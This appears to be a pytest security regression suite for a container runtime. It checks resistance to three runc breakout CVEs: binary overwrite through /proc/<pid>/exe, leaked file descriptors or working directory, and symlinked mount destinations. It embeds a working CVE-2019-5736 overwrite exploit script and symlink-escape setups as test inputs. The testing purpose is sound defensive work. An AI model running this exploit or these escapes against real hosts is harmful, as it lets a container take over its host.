"""Container breakouts that hit runc: the runtime binary overwritten from
inside (CVE-2019-5736), leaked fds / cwd outside the container
(CVE-2024-21626), and mounts following rootfs symlinks out of the rootfs
(CVE-2021-30465)."""

import json
import os
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from conftest import Runtime, alive, read, wait_until

ALL_CAPS = [
    "CAP_CHOWN", "CAP_DAC_OVERRIDE", "CAP_DAC_READ_SEARCH", "CAP_FOWNER", "CAP_FSETID", "CAP_KILL",
    "CAP_SETGID", "CAP_SETUID", "CAP_SETPCAP", "CAP_NET_BIND_SERVICE", "CAP_NET_RAW",
    "CAP_SYS_CHROOT", "CAP_SYS_ADMIN", "CAP_SYS_PTRACE", "CAP_MKNOD", "CAP_AUDIT_WRITE",
    "CAP_SETFCAP",
]

# ------------------------------------------------------------ CVE-2019-5736

# Runs in the container (as root with CAP_SYS_PTRACE, which lets it open
# /proc/<pid>/exe even of a non-dumpable process): every new pid it sees,
# it opens /proc/<pid>/exe with a builtin redirect (no fork, so it is
# fast), and a background writer holding that fd keeps trying to write
# through /proc/self/fd/3 -- which succeeds once an unprotected runtime
# binary stops running (ETXTBSY until then).  This is the CVE-2019-5736
# exploit; the classic `#!/proc/self/exe` variant cannot run on this
# kernel (exec through a magic link to a file on a mount outside the
# caller's mount namespace gives ENOENT), so the attacker races the window
# between the runtime's fork into the container and its execve.
ATTACK = r"""
end=$(( $(date +%s) + 10 ))
seen=" 1 $$ "
: > /out/log
while [ ! -e /out/stop ] && [ $(date +%s) -lt $end ]; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    case "$seen" in *" $p "*) continue;; esac
    seen="$seen$p "
    command exec 3<$d/exe 2>/dev/null || continue
    (
      t=$(readlink /proc/self/fd/3)
      case "$t" in */bin/busybox) exit 0;; esac
      echo "opened $p $t" >> /out/log
      i=0
      while [ $i -lt 150 ]; do
        if echo PWNED >> /proc/self/fd/3 2>/dev/null; then echo "WROTE $p $t" >> /out/log; exit 0; fi
        i=$((i+1)); sleep 0.01
      done
      echo "gave-up $p" >> /out/log
    ) &
    exec 3<&-
  done
done
wait
echo attack-done >> /out/log
"""

# The exec'd process looks its command up in $PATH before execve: a long
# PATH of missing directories keeps the runtime binary running inside the
# container's pid namespace for a while (the race window to attack).
SLOW_PATH = "PATH=" + ":".join(["/x"] * 30000) + ":/bin"


def overwrite_attempt(rt_copy, make_bundle, tmp_path, cid, env=None):
    """Start an attacker container with rt_copy, exec into it repeatedly
    and return the attacker's log."""
    outdir = tmp_path / f"out-{cid}"
    outdir.mkdir()
    b = make_bundle(("sh", "/attack.sh"))
    (b.rootfs / "attack.sh").write_text(ATTACK)
    b.set_caps(ALL_CAPS)
    b.process["noNewPrivileges"] = False
    b.add_mount("/out", "bind", outdir, ["rbind", "rw"])
    rt_copy.start_container(cid, b)
    log = outdir / "log"
    wait_until(lambda: log.exists(), 5, what="the attacker to start")
    deadline = time.monotonic() + 4
    n = 0
    while time.monotonic() < deadline:
        r = rt_copy("exec", "-e", SLOW_PATH, cid, "true", env=env)
        assert r.rc == 0, r
        n += 1
        if "WROTE" in read(log, ""):
            break
    (outdir / "stop").write_text("")
    wait_until(lambda: "attack-done" in read(log, ""), 20, what="the attacker to finish")
    return f"{n} execs\n" + read(log)


def test_cve_2019_5736_runtime_binary_not_overwritable(runtime_path, copy_runtime, sha256, rt,
                                                       make_bundle, tmp_path):
    before = sha256(copy_runtime)
    assert before == sha256(runtime_path)
    rt_copy = Runtime(copy_runtime, rt.root)
    rt.bundles = rt_copy.bundles
    try:
        log = overwrite_attempt(rt_copy, make_bundle, tmp_path, "cve5736")
    finally:
        rt.ids |= rt_copy.ids
        rt.pids |= rt_copy.pids
    assert sha256(copy_runtime) == before, f"runtime binary overwritten from the container:\n{log}"
    assert "WROTE" not in log, log
    # The attacker did get hold of the runtime (else this proves nothing).
    assert "opened" in log, f"attacker never opened the runtime's exe:\n{log}"
    assert "memfd:" in log, f"the runtime in the container is not a sealed copy:\n{log}"


def test_cve_2019_5736_harness_detects_unprotected_binary(runtime_path, copy_runtime, sha256, rt,
                                                          make_bundle, tmp_path):
    """Control: with the sealed-copy protection switched off
    (PIER_RUNTIME_NO_CLONE), the same attack must overwrite the copy.  If
    this fails, the harness above is too weak to catch a regression."""
    before = sha256(copy_runtime)
    rt_copy = Runtime(copy_runtime, rt.root)
    env = dict(os.environ, PIER_RUNTIME_NO_CLONE="1")
    try:
        log = overwrite_attempt(rt_copy, make_bundle, tmp_path, "ctl5736", env=env)
    finally:
        rt.ids |= rt_copy.ids
        rt.pids |= rt_copy.pids
    assert sha256(copy_runtime) != before, f"control attack did not overwrite the binary:\n{log}"
    assert "WROTE" in log


# ----------------------------------------------------------- CVE-2024-21626

LIST_FDS = "ls -l /proc/self/fd | sed -n 's/.* \\([0-9]*\\) -> \\(.*\\)/\\1 \\2/p'"


def parse_fds(out):
    """{fd: target} of `ls -l /proc/self/fd`, without ls's own directory fd."""
    fds = {}
    for line in out.splitlines():
        parts = line.split(" ", 1)
        if len(parts) == 2 and parts[0].isdigit():
            fds[int(parts[0])] = parts[1]
    return {fd: t for fd, t in fds.items() if not (t.startswith("/proc/") and t.endswith("/fd"))}


@pytest.fixture
def host_secret(tmp_path):
    f = tmp_path / "host-secret.txt"
    f.write_text("host-secret-content\n")
    d = os.open(tmp_path, os.O_RDONLY | os.O_DIRECTORY)
    s = os.open(f, os.O_RDONLY)
    os.set_inheritable(d, True)
    os.set_inheritable(s, True)
    yield f, (d, s)
    os.close(d)
    os.close(s)


def test_init_sees_only_stdio_fds(rt, make_bundle, host_secret):
    _, fds = host_secret
    b = make_bundle(("sh", "-c", LIST_FDS + "; echo cwd=$(readlink /proc/self/cwd)"))
    b.process["cwd"] = "/etc"
    r = rt.run("fd1", b, pass_fds=fds)
    assert r.rc == 0, r
    got = parse_fds(r.out)
    assert sorted(got) == [0, 1, 2], f"extra fds in the container init: {got}"
    assert "cwd=/etc" in r.out


def test_exec_sees_only_stdio_fds(rt, make_bundle, host_secret):
    _, fds = host_secret
    b = make_bundle(("sh", "-c", "while :; do sleep 0.1; done"))
    rt.start_container("fd2", b)
    r = rt("exec", "--cwd", "/tmp", "fd2", "sh", "-c", LIST_FDS + "; echo cwd=$(readlink /proc/self/cwd)",
           pass_fds=fds)
    assert r.rc == 0, r
    got = parse_fds(r.out)
    assert sorted(got) == [0, 1, 2], f"extra fds in the exec'd process: {got}"
    assert "cwd=/tmp" in r.out


def test_exec_cwd_is_inside_container(rt, make_bundle):
    b = make_bundle(("sh", "-c", "while :; do sleep 0.1; done"))
    rt.start_container("fd3", b)
    # /work exists on the host only; the container root has no such entry.
    assert os.path.isdir("/work")
    r = rt.ok("exec", "fd3", "sh", "-c", "ls -a ../../../../../..; readlink /proc/self/root")
    assert "work" not in r.out.split(), r.out
    assert r.out.split()[-1] == "/"


@pytest.mark.parametrize("n", range(3, 9))
def test_cwd_via_proc_self_fd_stays_inside(rt, make_bundle, n):
    """CVE-2024-21626: process.cwd /proc/self/fd/N must never give the
    process a working directory outside the container (a leaked host fd)."""
    b = make_bundle(("sh", "-c", "ls -a ../../../../../..; echo cwd=$(readlink /proc/self/cwd)"))
    b.process["cwd"] = f"/proc/self/fd/{n}"
    r = rt.run(f"cwdfd{n}", b)
    if r.rc == 0:
        names = r.out.split()
        assert "work" not in names and "pytest-of-root" not in names, r.out
        cwd = [l for l in r.out.splitlines() if l.startswith("cwd=")][0]
        assert "/sys/fs/cgroup" not in cwd and "pier-root" not in cwd, cwd


@pytest.mark.parametrize("n", range(3, 9))
def test_exec_cwd_via_proc_self_fd_stays_inside(rt, make_bundle, n):
    b = make_bundle(("sh", "-c", "while :; do sleep 0.1; done"))
    rt.start_container(f"ecwd{n}", b)
    r = rt("exec", "--cwd", f"/proc/self/fd/{n}", f"ecwd{n}", "sh", "-c",
           "ls -a ../../../../../..; echo cwd=$(readlink /proc/self/cwd)")
    if r.rc == 0:
        names = r.out.split()
        assert "work" not in names and "pytest-of-root" not in names, r.out


def test_preserve_fds(rt, make_bundle, host_secret, tmp_path):
    secret, _ = host_secret
    b = make_bundle(("sh", "-c", "cat <&3; " + LIST_FDS))
    b.save()
    rt.ids.add("pf1")
    rt.bundles.append(b)
    # fd 3 of the runtime is the secret file: passed only with --preserve-fds.
    wrapper = ["/bin/sh", "-c", 'f=$1; shift; exec "$@" 3<"$f"', "sh", str(secret)]
    r = subprocess.run(wrapper + rt.cmd("run", "--preserve-fds", "1", "--bundle", b.path, "pf1"),
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r
    assert "host-secret-content" in r.stdout
    fds = parse_fds(r.stdout.split("\n", 1)[1])
    assert sorted(fds) == [0, 1, 2, 3], fds
    # Without --preserve-fds the same fd 3 stays outside.
    rt.ids.add("pf2")
    r = subprocess.run(wrapper + rt.cmd("run", "--bundle", b.path, "pf2"),
                       capture_output=True, text=True, timeout=30)
    assert "host-secret-content" not in r.stdout, r
    assert sorted(parse_fds(r.stdout)) == [0, 1, 2], r.stdout


def test_exec_preserve_fds(rt, make_bundle, host_secret):
    secret, _ = host_secret
    b = make_bundle(("sh", "-c", "while :; do sleep 0.1; done"))
    rt.start_container("pf3", b)
    wrapper = ["/bin/sh", "-c", 'f=$1; shift; exec "$@" 3<"$f"', "sh", str(secret)]
    r = subprocess.run(wrapper + rt.cmd("exec", "--preserve-fds", "1", "pf3", "sh", "-c", "cat <&3"),
                       capture_output=True, text=True, timeout=30)
    assert r.returncode == 0, r
    assert "host-secret-content" in r.stdout
    r = subprocess.run(wrapper + rt.cmd("exec", "pf3", "sh", "-c", "cat <&3"),
                       capture_output=True, text=True, timeout=30)
    assert "host-secret-content" not in r.stdout


def test_no_host_fd_visible_through_proc_of_init(rt, make_bundle):
    """An exec'd process must not reach host files through /proc/1/fd,
    /proc/1/cwd or /proc/1/root of the container's init."""
    b = make_bundle(("sh", "-c", "while :; do sleep 0.1; done"))
    rt.start_container("fd4", b)
    r = rt.ok("exec", "fd4", "sh", "-c",
              "ls -l /proc/1/fd | sed -n 's/.* -> //p'; readlink /proc/1/cwd; readlink /proc/1/root")
    for target in r.out.split():
        assert not target.startswith(("/sys/fs/cgroup", "/run/pier-root", "/tmp/pytest", "/work")), r.out


# ----------------------------------------------------------- CVE-2021-30465


@pytest.fixture
def host_dir():
    d = Path("/tmp") / f"pier-cve-{uuid.uuid4().hex[:10]}"
    d.mkdir()
    (d / "host-marker").write_text("host\n")
    yield d
    subprocess.run(["umount", "-l", str(d)], capture_output=True)
    for p in sorted(d.rglob("*"), key=lambda p: -len(p.parts)):
        if p.is_dir() and not p.is_symlink():
            p.rmdir()
        else:
            p.unlink()
    d.rmdir()


def test_mount_through_absolute_symlink_lands_in_rootfs(rt, make_bundle, host_dir, tmp_path):
    # rootfs/mnt2 -> /tmp/pier-cve-X, which exists both on the host and in
    # the rootfs: the bind mount must cover the rootfs one.
    src = tmp_path / "src"
    src.mkdir()
    (src / "from-source").write_text("src\n")
    b = make_bundle(("sh", "-c", f"ls /mnt2; echo --; ls {host_dir}"))
    inner = b.rootfs / str(host_dir).lstrip("/")
    inner.mkdir(parents=True)
    (inner / "rootfs-marker").write_text("rootfs\n")
    os.symlink(str(host_dir), b.rootfs / "mnt2")
    b.add_mount("/mnt2", "bind", src, ["rbind", "rw"])
    r = rt.run("sym1", b)
    assert sorted(os.listdir(host_dir)) == ["host-marker"]
    assert str(host_dir) not in read("/proc/self/mountinfo")
    assert r.rc == 0, r
    via_link, _, by_path = r.out.partition("--")
    assert via_link.split() == ["from-source"], r.out
    assert by_path.split() == ["from-source"], r.out


def test_mount_through_dotdot_symlink_lands_in_rootfs(rt, make_bundle, host_dir):
    b = make_bundle(("sh", "-c", "touch /mnt3/written-inside; ls /mnt3"))
    inner = b.rootfs / str(host_dir).lstrip("/")
    inner.mkdir(parents=True)
    os.symlink("../../../../../../../../../../.." + str(host_dir), b.rootfs / "mnt3")
    b.add_mount("/mnt3", "tmpfs", "tmpfs")
    r = rt.run("sym2", b)
    assert sorted(os.listdir(host_dir)) == ["host-marker"]
    assert str(host_dir) not in read("/proc/self/mountinfo")
    assert r.rc == 0, r
    assert r.out.split() == ["written-inside"], r.out
    assert os.listdir(inner) == [], "tmpfs not mounted over the rootfs directory"


def test_mount_through_dangling_symlink_never_touches_host(rt, make_bundle, host_dir):
    # rootfs/mnt4 -> /tmp/pier-cve-X, which exists only on the host: the
    # runtime may create the target inside the rootfs (as runc does) or
    # refuse, but must never create anything in the host directory.
    b = make_bundle(("sh", "-c", "ls -d /mnt4/newdir/sub"))
    b.config["root"]["readonly"] = False
    os.symlink(str(host_dir), b.rootfs / "mnt4")
    b.add_mount("/mnt4/newdir/sub", "tmpfs", "tmpfs")
    r = rt.run("sym3", b)
    assert sorted(os.listdir(host_dir)) == ["host-marker"], "runtime created directories on the host"
    assert str(host_dir) not in read("/proc/self/mountinfo")
    if r.rc == 0:
        assert (b.rootfs / str(host_dir).lstrip("/") / "newdir" / "sub").is_dir()
    else:
        assert "/mnt4/newdir" in r.err, r.err


def test_mount_under_relative_symlink_dir(rt, make_bundle, tmp_path):
    # Common in images: /var/run -> ../run.  Kubernetes mounts secrets at
    # /var/run/secrets/...: the target is created under /run in the rootfs.
    src = tmp_path / "secret"
    src.mkdir()
    (src / "token").write_text("t0ken\n")
    b = make_bundle(("cat", "/var/run/secrets/sa/token"))
    b.config["root"]["readonly"] = False
    (b.rootfs / "var").mkdir(exist_ok=True)
    os.symlink("../run", b.rootfs / "var" / "run")
    b.add_mount("/var/run/secrets/sa", "bind", src, ["rbind", "ro"])
    r = rt.run("sym6", b)
    assert r.rc == 0, r
    assert r.out == "t0ken\n"
    assert (b.rootfs / "run" / "secrets" / "sa").is_dir()


def test_bind_file_through_symlink_never_touches_host(rt, make_bundle, host_dir, tmp_path):
    # A symlink at the destination of a file bind mount must not make the
    # runtime create or overwrite the host file it points to.
    src = tmp_path / "srcfile"
    src.write_text("bound\n")
    victim = host_dir / "victim.conf"
    victim.write_text("original\n")
    b = make_bundle(("cat", "/etc/victim.conf"))
    b.config["root"]["readonly"] = False
    os.symlink(str(victim), b.rootfs / "etc" / "victim.conf")
    b.add_mount("/etc/victim.conf", "bind", src, ["bind", "rw"])
    r = rt.run("sym4", b)
    assert victim.read_text() == "original\n"
    assert sorted(os.listdir(host_dir)) == ["host-marker", "victim.conf"]
    assert str(host_dir) not in read("/proc/self/mountinfo")
    if r.rc == 0:
        assert r.out == "bound\n"
    else:
        assert "/etc/victim.conf" in r.err, r.err


def test_rootfs_proc_symlink_never_mounts_on_host(rt, make_bundle, host_dir):
    # /proc in the rootfs is a symlink to a host path: procfs must not end
    # up mounted over the host directory.
    b = make_bundle(("sh", "-c", "ls /proc/self/ns >/dev/null && echo proc-ok"))
    b.config["root"]["readonly"] = False
    (b.rootfs / "proc").rmdir()
    os.symlink(str(host_dir), b.rootfs / "proc")
    r = rt.run("sym5", b)
    assert sorted(os.listdir(host_dir)) == ["host-marker"]
    assert str(host_dir) not in read("/proc/self/mountinfo")
    if r.rc != 0:
        assert "/proc" in r.err, r.err


def test_missing_cwd_through_symlink_never_touches_host(rt, make_bundle, host_dir):
    # process.cwd below a rootfs symlink to a host path: creating the
    # missing cwd must happen inside the container, never on the host.
    b = make_bundle(("pwd",))
    b.config["root"]["readonly"] = False
    os.symlink(str(host_dir), b.rootfs / "evil")
    b.process["cwd"] = "/evil/newdir"
    r = rt.run("cwdsym", b)
    assert sorted(os.listdir(host_dir)) == ["host-marker"], "runtime created the cwd on the host"
    if r.rc == 0:
        assert r.out.strip() == "/evil/newdir"
        assert (b.rootfs / str(host_dir).lstrip("/") / "newdir").is_dir()
